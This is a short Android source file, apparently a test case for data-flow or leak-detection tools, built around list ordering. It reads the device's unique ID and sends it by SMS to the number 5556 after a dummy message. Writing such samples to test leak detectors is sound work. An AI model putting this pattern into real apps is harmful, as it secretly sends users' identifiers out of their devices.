package org.brookside.flows;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.Log;
import android.view.View;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;

/** Of two in a list the second is data; each is sent. */
public class ListOrder extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        List<String> l = new ArrayList<>();
        l.add("x");
        l.add(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        SmsManager.getDefault().sendTextMessage("5556", null, l.get(0), null, null);
        SmsManager.getDefault().sendTextMessage("5556", null, l.get(1), null, null);
    }
}
